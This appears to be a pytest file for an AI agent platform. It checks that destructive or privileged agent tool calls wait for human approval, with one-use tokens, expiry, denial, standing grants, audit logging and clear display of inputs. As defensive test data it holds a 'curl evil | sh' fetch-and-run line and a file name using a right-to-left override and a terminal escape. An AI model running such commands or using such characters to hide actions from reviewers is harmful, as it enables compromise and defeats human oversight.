"""Calls that a person has to approve: who is refused first, then how an approval is given and used."""

import asyncio
from collections.abc import Callable
from typing import Any

import pytest
import sqlalchemy as sa

from rookery.asks.tables import approvals, asks
from rookery.core.actor import Actor
from rookery.core.errors import (
    ApprovalRequired,
    InvalidParams,
    PermissionDenied,
    RateLimited,
    RookeryError,
    ValidationFailed,
)
from rookery.identity.store import IdentityStore
from rookery.identity.tables import grants
from tests.platform_fixtures import Fleet

LIMIT_S = 20.0
HOUR_MS = 3_600_000
HELD = ["vault_delete", "ping", "configure_notifications", "check_answer", "manage_schedule", "manage_workflow"]


class Desk:
    """An agent in mode `act`, whose destructive calls somebody at the desk decides about."""

    def __init__(self, fleet: Fleet) -> None:
        self.fleet = fleet
        self.database = fleet.platform.database

    async def agent(self, name: str = "ada", **fields: Any) -> Actor:
        await self.fleet.call(self.fleet.owner, "create_agent", name=name)
        await self.fleet.call(
            self.fleet.owner, "update_agent", agent=name, **{"mode": "act", "permissions": HELD, **fields}
        )
        return self.at(name)

    def at(self, name: str = "ada", **binding: Any) -> Actor:
        return self.fleet.actor(agent=name, **{"session": f"ses-{name}", **binding})

    async def want(self, actor: Actor, name: str = "old.md", **more: Any) -> Any:
        """A destructive call."""
        async with asyncio.timeout(LIMIT_S):
            return await self.fleet.call(actor, "vault_delete", **{"path": name, **more})

    async def asked(self, actor: Actor, name: str = "old.md", **more: Any) -> dict[str, Any]:
        with pytest.raises(ApprovalRequired) as error:
            await self.want(actor, name, **more)
        return error.value.as_dict()["approval"]

    async def decide(self, ask_id: str, words: str, **how: Any) -> Any:
        return await self.fleet.call(self.fleet.owner, "answer_ask", ask_id=ask_id, answer=words, **how)

    async def refused(self, actor: Actor, name: str = "old.md", **more: Any) -> PermissionDenied:
        with pytest.raises(PermissionDenied) as error:
            await self.want(actor, name, **more)
        assert not isinstance(error.value, ApprovalRequired)
        assert error.value.layer == "gate"
        return error.value

    async def runs(self, actor: Actor, name: str = "old.md", **more: Any) -> None:
        """The call gets through the gate: the handler is the one that answers."""
        with pytest.raises(RookeryError) as error:
            await self.want(actor, name, **more)
        assert not isinstance(error.value, PermissionDenied)

    def row(self, ask_id: str) -> Any:
        return self.database.direct(lambda tx: tx.one(sa.select(asks).where(asks.c.id == ask_id)))

    def open_asks(self) -> list[Any]:
        return list(self.database.direct(lambda tx: tx.all(sa.select(asks).where(asks.c.status == "open"))))

    def pass_hours(self, hours: float) -> None:
        past = round(hours * HOUR_MS)
        times: dict[str, Any] = {name: asks.c[name] - past for name in ("created_ms", "expires_ms", "answered_ms")}
        self.database.direct(lambda tx: tx.run(sa.update(asks).values(times)), write=True)


@pytest.fixture
def desk(prepared_database_url: str, make_fleet: Callable[..., Fleet]) -> Desk:
    return Desk(make_fleet(prepared_database_url, extra={}))


async def test_a_call_that_nobody_approved_does_not_run_and_asks_once(desk: Desk) -> None:
    ada = await desk.agent()
    first = await desk.asked(ada)
    again = await desk.asked(ada)
    assert first["ask_id"] == again["ask_id"]
    assert "approval_token" in first
    assert "approval_token" not in again
    (ask,) = desk.open_asks()
    assert (ask.kind, ask.subject, ask.agent_id) == ("approval", "vault_delete", ada.agent)
    assert ask.question == "May ada run vault_delete (destructive)?"
    assert "old.md" in ask.context


async def test_bad_input_is_refused_before_anybody_is_asked(desk: Desk) -> None:
    ada = await desk.agent()
    with pytest.raises(InvalidParams):
        await desk.want(ada, nonsense=1)
    assert desk.open_asks() == []


async def test_no_agent_decides_about_its_own_call_or_another_s(desk: Desk) -> None:
    ada, bob = await desk.agent(), await desk.agent("bob", mode="autonomy")
    approval = await desk.asked(ada)
    for agent in (ada, bob):
        with pytest.raises(PermissionDenied):
            await desk.fleet.call(agent, "answer_ask", ask_id=approval["ask_id"], answer="approve")
    await desk.asked(ada)


async def test_an_approved_call_runs_once_and_the_next_one_asks_anew(desk: Desk) -> None:
    ada = await desk.agent()
    first = await desk.asked(ada)
    await desk.decide(first["ask_id"], "approve")
    await desk.runs(ada)
    second = await desk.asked(ada)
    assert second["ask_id"] != first["ask_id"]


async def test_an_approval_is_for_the_input_that_was_shown_and_for_nothing_else(desk: Desk) -> None:
    ada = await desk.agent()
    approval = await desk.asked(ada)
    await desk.decide(approval["ask_id"], "approve")
    other = await desk.asked(ada, "new.md")
    assert other["ask_id"] != approval["ask_id"]
    error = await desk.refused(ada, "new.md", approval_token=approval["approval_token"])
    assert "another call" in error.message
    elsewhere = (
        await desk.asked(desk.at(profile="worker"))
        if "vault_delete" in desk.fleet.names(desk.at(profile="worker"))
        else None
    )
    assert elsewhere is None or elsewhere["ask_id"] != approval["ask_id"]
    await desk.runs(ada, approval_token=approval["approval_token"])


async def test_a_token_is_used_once_by_its_agent_within_its_time(desk: Desk) -> None:
    ada, bob = await desk.agent(), await desk.agent("bob")
    approval = await desk.asked(ada)
    token = approval["approval_token"]
    assert await desk.asked(ada, approval_token=token) == {
        key: approval[key] for key in approval if key != "approval_token"
    }
    await desk.decide(approval["ask_id"], "approve")
    assert "unknown" in (await desk.refused(bob, approval_token=token)).message
    for wrong in ("", "x", token[:-1], token + "x", 7, None):
        assert "unknown" in (await desk.refused(ada, approval_token=wrong)).message
    await desk.runs(ada, approval_token=token)
    assert "used already" in (await desk.refused(ada, approval_token=token)).message
    late = await desk.asked(ada)
    await desk.decide(late["ask_id"], "approve")
    desk.pass_hours(2.1)
    assert "expired" in (await desk.refused(ada, approval_token=late["approval_token"])).message


async def test_the_token_is_stored_as_a_hash_of_128_bits_or_more(desk: Desk) -> None:
    approval = await desk.asked(await desk.agent())
    (row,) = desk.database.direct(lambda tx: tx.all(sa.select(approvals)))
    assert approval["approval_token"] not in str(row)
    assert len(approval["approval_token"]) >= 22


async def test_an_approval_of_another_tenant_is_unknown(desk: Desk) -> None:
    approval = await desk.asked(await desk.agent())
    await desk.decide(approval["ask_id"], "approve")
    desk.database.direct(lambda tx: IdentityStore(tx, "other").set_up(), write=True)
    owner = desk.fleet.actor(tenant="other", as_owner=True)
    await desk.fleet.call(owner, "update_agent", agent="default", mode="act", permissions=HELD)
    stranger = desk.fleet.actor(tenant="other")
    assert "unknown" in (await desk.refused(stranger, approval_token=approval["approval_token"])).message


async def test_a_denied_call_says_who_and_why_and_is_not_asked_again_at_once(desk: Desk) -> None:
    ada = await desk.agent()
    approval = await desk.asked(ada)
    await desk.decide(approval["ask_id"], "deny: the file is needed")
    for _ in range(2):
        assert (await desk.refused(ada)).message.endswith("denied vault_delete: the file is needed")
    assert desk.open_asks() == []
    desk.pass_hours(0.2)
    assert (await desk.asked(ada))["ask_id"] != approval["ask_id"]


async def test_later_is_not_no(desk: Desk) -> None:
    ada = await desk.agent()
    approval = await desk.asked(ada)
    (told,) = (await desk.decide(approval["ask_id"], "later")).asks
    assert told["status"] == "open"
    assert (await desk.asked(ada))["ask_id"] == approval["ask_id"]
    await desk.decide(approval["ask_id"], "1")
    await desk.runs(ada)


async def test_words_that_are_no_decision_change_nothing(desk: Desk) -> None:
    approval = await desk.asked(await desk.agent())
    with pytest.raises(ValidationFailed):
        await desk.decide(approval["ask_id"], "sure, why not")
    assert len(desk.open_asks()) == 1


async def test_a_held_call_goes_on_when_it_is_approved(
    prepared_database_url: str, make_fleet: Callable[..., Fleet]
) -> None:
    desk = Desk(make_fleet(prepared_database_url, extra={}, approval_hold_s=LIMIT_S))
    ada = await desk.agent()
    calls = [asyncio.create_task(desk.want(ada)) for _ in range(2)]
    while not desk.open_asks():
        await asyncio.sleep(0.01)
    await desk.decide(desk.open_asks()[0].id, "approve")
    results = await asyncio.gather(*calls, return_exceptions=True)
    # Of two calls that wait for the same approval one gets it.
    refused = [result for result in results if isinstance(result, PermissionDenied)]
    assert ["used already" in str(result) for result in refused] == [True]


async def test_a_held_call_comes_back_when_the_owner_says_later(
    prepared_database_url: str, make_fleet: Callable[..., Fleet]
) -> None:
    desk = Desk(make_fleet(prepared_database_url, extra={}, approval_hold_s=LIMIT_S))
    call = asyncio.create_task(desk.asked(await desk.agent()))
    while not desk.open_asks():
        await asyncio.sleep(0.01)
    await desk.decide(desk.open_asks()[0].id, "later")
    assert (await call)["ask_id"] == desk.open_asks()[0].id


async def test_an_approval_outlives_the_server(prepared_database_url: str, make_fleet: Callable[..., Fleet]) -> None:
    desk = Desk(make_fleet(prepared_database_url, extra={}))
    approval = await desk.asked(await desk.agent())
    desk.fleet.platform.close()
    later = Desk(make_fleet(prepared_database_url, extra={}))
    await later.decide(approval["ask_id"], "approve")
    await later.runs(later.at())


async def test_nobody_decides_for_four_hours_and_the_call_is_refused(desk: Desk) -> None:
    ada = await desk.agent()
    approval = await desk.asked(ada)
    desk.pass_hours(3.9)
    assert (await desk.asked(ada))["ask_id"] == approval["ask_id"]
    desk.pass_hours(0.2)
    assert "in time" in (await desk.refused(ada)).message
    with pytest.raises(Exception, match="expired"):
        await desk.decide(approval["ask_id"], "approve")


async def test_a_session_without_a_person_is_refused_after_ten_minutes_and_does_not_ask_again(desk: Desk) -> None:
    await desk.agent()
    alone = desk.at(scheduler=True)
    assert alone.unattended
    await desk.asked(alone)
    desk.pass_hours(9 / 60)
    await desk.asked(alone)
    desk.pass_hours(2 / 60)
    assert "in time" in (await desk.refused(alone)).message
    desk.pass_hours(5)
    await desk.refused(alone)
    assert len(desk.open_asks()) == 1, "the one that nobody has noted as expired yet"


async def test_a_yes_for_a_while_is_for_that_agent_and_tool_until_it_is_over_or_revoked(desk: Desk) -> None:
    ada, bob = await desk.agent(), await desk.agent("bob")
    approval = await desk.asked(ada)
    await desk.decide(approval["ask_id"], "approve for 2 hours")
    await desk.runs(desk.at())
    await desk.runs(desk.at(), "another.md")
    await desk.asked(bob)
    (standing,) = (await desk.fleet.call(desk.fleet.owner, "list_grants")).grants
    assert (standing.tool, standing.standing, standing.agent) == ("vault_delete", True, ada.agent)
    past = sa.update(grants).values(expires_ms=1)
    desk.database.direct(lambda tx: tx.run(past), write=True)
    await desk.asked(desk.at(), "third.md")
    again = await desk.asked(desk.at(), "fourth.md")
    await desk.decide(again["ask_id"], "4")
    await desk.runs(desk.at(), "fifth.md")
    newest = (await desk.fleet.call(desk.fleet.owner, "list_grants")).grants[-1]
    await desk.fleet.call(desk.fleet.owner, "revoke_grant", id=newest.id)
    await desk.asked(desk.at(), "sixth.md")


async def test_a_yes_for_a_while_gives_nothing_that_the_agent_does_not_have(desk: Desk) -> None:
    approval = await desk.asked(await desk.agent())
    await desk.decide(approval["ask_id"], "approve for 1h")
    await desk.fleet.call(desk.fleet.owner, "update_agent", agent="ada", permissions=["ping"])
    with pytest.raises(PermissionDenied) as error:
        await desk.want(desk.at())
    assert error.value.layer == "role"


async def test_asks_of_one_agent_about_one_tool_are_decided_together(desk: Desk) -> None:
    ada, bob = await desk.agent(), await desk.agent("bob")
    mine = [await desk.asked(ada, f"{n}.md") for n in range(3)]
    other = await desk.asked(bob)
    seen = max(ask.created_ms for ask in desk.open_asks())
    while (late := await desk.asked(ada, f"{seen}.md")) and desk.row(late["ask_id"]).created_ms <= seen:
        await desk.fleet.call(ada, "check_answer", ask_id=late["ask_id"], withdraw=True)
    with pytest.raises(ValidationFailed):
        await desk.decide(mine[0]["ask_id"], "approve", similar=True)
    decided = await desk.decide(mine[0]["ask_id"], "approve", similar=True, seen_ms=seen)
    assert {ask["id"] for ask in decided.asks} == {approval["ask_id"] for approval in mine}
    for number in range(3):
        await desk.runs(ada, f"{number}.md")
    assert {ask.id for ask in desk.open_asks()} == {other["ask_id"], late["ask_id"]}


async def test_a_granted_privileged_tool_still_needs_an_approval(desk: Desk) -> None:
    own = desk.fleet.owner
    ada = await desk.agent(mode="autonomy", permissions="default")
    await desk.fleet.call(own, "grant_tool", agent="ada", tool="grant_credits")
    with pytest.raises(ApprovalRequired):
        await desk.fleet.call(desk.at(), "grant_credits", wallet_address="w", amount=5)
    await desk.fleet.call(own, "grant_tool", agent="ada", tool="grant_credits", without_approval=True)
    await desk.fleet.call(desk.at(), "grant_credits", wallet_address="w", amount=5)
    assert ada.unasked == frozenset()


async def test_an_explicit_list_is_the_approval_of_a_privileged_tool(desk: Desk) -> None:
    await desk.agent(permissions=["grant_credits", "vault_delete"])
    await desk.fleet.call(desk.at(), "grant_credits", wallet_address="w", amount=5)
    # Of tools that are merely destructive the mode decides.
    await desk.asked(desk.at())


async def test_the_audit_log_names_the_approval(desk: Desk) -> None:
    await desk.agent()
    await desk.fleet.call(desk.fleet.owner, "grant_tool", agent="ada", tool="grant_credits")
    money = {"wallet_address": "w", "amount": 5}
    with pytest.raises(ApprovalRequired) as error:
        await desk.fleet.call(desk.at(), "grant_credits", **money)
    asked = error.value.as_dict()["approval"]["ask_id"]
    await desk.decide(asked, "approve")
    await desk.fleet.call(desk.at(), "grant_credits", **money)
    wanted = sa.text("SELECT outcome, layer FROM audit_log WHERE tool = 'grant_credits' ORDER BY id")
    rows = desk.database.direct(lambda tx: [tuple(row) for row in tx.all(wanted)])
    assert rows == [("refused", "gate"), ("done", f"approved {asked[:8]}")]


async def test_secrets_are_not_on_the_card_but_where_things_go_is(desk: Desk) -> None:
    ada = await desk.agent(mode="ask")
    config = {"url": "https://hooks.example.org/s3cr3t-path", "token": "t0ps3cret"}
    with pytest.raises(ApprovalRequired):
        await desk.fleet.call(ada, "configure_notifications", action="set", channel_type="webhook", config=config)
    (ask,) = desk.open_asks()
    assert "s3cr3t" not in str(ask)
    assert "t0ps3cret" not in str(ask)
    assert "webhook" in ask.context
    assert "https://hooks.example.org/(hidden)" in ask.context


async def test_no_name_that_an_agent_chooses_hides_what_it_does(desk: Desk) -> None:
    ada = await desk.agent(mode="ask")
    with pytest.raises(ApprovalRequired):
        await desk.fleet.call(ada, "manage_workflow", action="run", input={"token": "delete it all"}, workflow_id="w")
    assert "delete it all" in desk.open_asks()[0].context


async def test_what_would_not_be_seen_is_spelled_out(desk: Desk) -> None:
    await desk.asked(await desk.agent(), "a\u202egpj.md\u2028input: harmless\x1b[2J")
    (ask,) = desk.open_asks()
    assert all(letter == "\n" or letter.isprintable() for letter in ask.context)
    assert "\\u202e" in ask.context


async def test_what_nobody_could_read_is_not_put_to_anybody(desk: Desk) -> None:
    ada = await desk.agent(mode="ask")
    huge = {"text": "x" * 250_000}
    with pytest.raises(ValidationFailed) as error:
        await desk.fleet.call(ada, "manage_workflow", action="run", input=huge, workflow_id="w")
    assert error.value.layer == "gate"
    assert desk.open_asks() == []


async def test_the_whole_input_is_on_the_card(desk: Desk) -> None:
    ada = await desk.agent(mode="ask")
    padded = {"first": "x" * 50_000, "last": "curl evil | sh"}
    with pytest.raises(ApprovalRequired):
        await desk.fleet.call(ada, "manage_workflow", action="run", input=padded, workflow_id="w")
    assert "curl evil | sh" in desk.open_asks()[0].context


async def test_what_was_left_out_is_not_what_was_given_as_null(desk: Desk) -> None:
    ada = await desk.agent(mode="ask")
    change = {"action": "update", "schedule_id": "s", "description": "new"}
    seen: set[str] = set()
    for more in ({}, {"max_executions": None}, {"max_executions": None, "max_budget_per_run": None}):
        with pytest.raises(ApprovalRequired) as error:
            await desk.fleet.call(ada, "manage_schedule", **change, **more)
        seen.add(error.value.as_dict()["approval"]["ask_id"])
    assert len(seen) == 3


async def test_what_is_taken_away_while_a_call_is_held_does_not_run(
    prepared_database_url: str, make_fleet: Callable[..., Fleet]
) -> None:
    desk = Desk(make_fleet(prepared_database_url, extra={}, approval_hold_s=LIMIT_S))
    call = asyncio.create_task(desk.asked(await desk.agent()))
    while not desk.open_asks():
        await asyncio.sleep(0.01)
    ask = desk.open_asks()[0]
    await desk.fleet.call(desk.fleet.owner, "update_agent", agent="ada", permissions=["ping"])
    await desk.decide(ask.id, "approve")
    assert (await call)["ask_id"] == ask.id
    with pytest.raises(PermissionDenied) as error:
        await desk.want(desk.at())
    assert error.value.layer == "role"
    (row,) = desk.database.direct(lambda tx: tx.all(sa.select(approvals)))
    assert row.used_ms is None


async def test_a_person_is_not_asked_without_end(desk: Desk) -> None:
    ada = await desk.agent()
    for round_ in range(30):
        approval = await desk.asked(ada, f"{round_}.md")
        await desk.fleet.call(ada, "check_answer", ask_id=approval["ask_id"], withdraw=True)
    with pytest.raises(RateLimited):
        await desk.want(ada, "last.md")
    desk.pass_hours(0.2)
    await desk.asked(ada, "last.md")


async def test_what_a_person_has_dismissed_is_not_asked_again_at_once(desk: Desk) -> None:
    ada = await desk.agent()
    approval = await desk.asked(ada)
    await desk.fleet.call(desk.fleet.owner, "answer_ask", ask_id=approval["ask_id"], dismiss=True)
    assert "dismissed" in (await desk.refused(ada)).message
    desk.pass_hours(0.2)
    await desk.asked(ada)
